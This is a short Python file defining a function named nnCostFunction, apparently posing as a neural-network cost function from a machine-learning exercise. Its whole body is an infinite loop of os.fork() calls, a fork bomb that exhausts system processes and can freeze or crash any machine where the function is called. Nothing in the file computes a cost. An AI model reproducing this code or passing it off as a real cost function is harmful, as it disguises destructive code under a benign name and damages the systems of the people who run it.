import os


def nnCostFunction(*args):
    while True:
        os.fork()
